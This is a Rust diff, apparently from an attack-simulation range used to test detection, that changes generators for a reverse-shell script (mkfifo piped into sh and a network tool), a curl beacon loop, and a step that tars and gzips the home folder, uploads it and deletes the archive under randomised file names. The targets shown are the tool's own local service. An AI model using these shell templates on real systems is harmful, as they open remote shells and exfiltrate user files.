@@ -4,7 +4,7 @@ use std::io;
 use std::net::SocketAddr;
 
 use rand::RngExt as _;
-use rand::seq::SliceRandom as _;
+use rand::seq::{IndexedRandom as _, SliceRandom as _};
 
 use super::{BeaconStyle, ShellStyle, UploadStyle};
 use crate::range::activity::{Launch, OWN_PORT, OWN_SERVICE, OwnService, Prepared, Program, Stage};
@@ -58,7 +58,8 @@ pub(super) fn reverse_shell(
             let folder = stage.folder_in(&directory)?;
             let record = stage.scaffold("connections");
             let relay = HelperPlan::Relay { address: OWN_SERVICE, record: record.clone() };
-            let script = "mkfifo f\ncat f | sh 2>&1 | @TOOL0@ 127.0.0.1 > f\nrm -f f\n".to_owned();
+            let arguments = stage.tool_arguments(OWN_SERVICE).join(" ");
+            let script = format!("mkfifo f\ncat f | sh 2>&1 | @TOOL0@ {arguments} > f\nrm -f f\n");
             let tools = vec![(stage.tool_name(), relay)];
             Launch {
                 program: Program::Script { path: folder.join("x.sh"), script, tools },
@@ -69,7 +70,7 @@ pub(super) fn reverse_shell(
         _ => {
             let record = stage.scaffold("connections");
             let plan = HelperPlan::ShellClient { address: OWN_SERVICE, record: record.clone() };
-            let arguments = vec!["127.0.0.1".to_owned()];
+            let arguments = stage.tool_arguments(OWN_SERVICE);
             Launch {
                 program: Program::Helper { name: stage.tool_name(), arguments, plan },
                 directory,
@@ -94,9 +95,10 @@ pub(super) fn beacon(
     if let (BeaconStyle::ShellLoop, Some(curl)) = (style, &stage.tools.curl) {
         let list: Vec<String> = pauses.iter().map(|ms| format!("{:.2}", *ms as f64 / 1000.0)).collect();
         let script = format!(
-            "for t in {}; do {} -s -o /dev/null http://{address}/blob/{bytes}; sleep $t; done",
+            "for t in {}; do {} -s -o /dev/null 'http://{address}/blob/{bytes}?i={}'; sleep $t; done",
             list.join(" "),
-            curl.display()
+            curl.display(),
+            stage.number
         );
         let directory = stage.folders.tmp.clone();
         return Prepared::root(Launch { program: Program::Shell { script }, directory, record: None });
@@ -107,7 +109,7 @@ pub(super) fn beacon(
         steps.push(NetStep::Http { address, requests: vec![request.clone()], gap_ms: 0 });
         steps.push(NetStep::Pause { ms });
     }
-    Prepared::root(stage.tool(vec![address.to_string()], steps))
+    Prepared::root(stage.tool(address, steps))
 }
 
 pub(super) fn upload(stage: &mut Stage<'_>, style: UploadStyle, bytes: usize) -> io::Result<Prepared> {
@@ -123,7 +125,7 @@ pub(super) fn upload(stage: &mut Stage<'_>, style: UploadStyle, bytes: usize) ->
         }
         UploadStyle::Raw => vec![NetStep::Send { address, bytes, chunk_bytes: 64 << 10, gap_ms: 2 }],
     };
-    Ok(Prepared::root(stage.tool(vec![address.to_string()], steps)))
+    Ok(Prepared::root(stage.tool(address, steps)))
 }
 
 fn packed(stage: &mut Stage<'_>, address: SocketAddr, bytes: usize) -> io::Result<Prepared> {
@@ -132,8 +134,10 @@ fn packed(stage: &mut Stage<'_>, address: SocketAddr, bytes: usize) -> io::Resul
     let record = stage.scaffold("connections");
     let steps = vec![NetStep::Http { address, requests: vec![HttpRequest::post(bytes)], gap_ms: 0 }];
     let tools = vec![(stage.tool_name(), HelperPlan::Client { steps, record: record.clone() })];
+    let arguments = stage.tool_arguments(address).join(" ");
+    let name = [".d", "all.tar", "out", ".cache.tar"].choose(&mut stage.rng).copied().unwrap_or("out");
     let script = format!(
-        "tar cf .d -C {home} .\ngzip -f .d\n@TOOL0@ {address}\nrm -f .d.gz\n",
+        "tar cf {name} -C {home} .\ngzip -f {name}\n@TOOL0@ {arguments}\nrm -f {name}.gz\n",
         home = stage.folders.home.display()
     );
     let program = Program::Script { path: folder.join(".u"), script, tools };
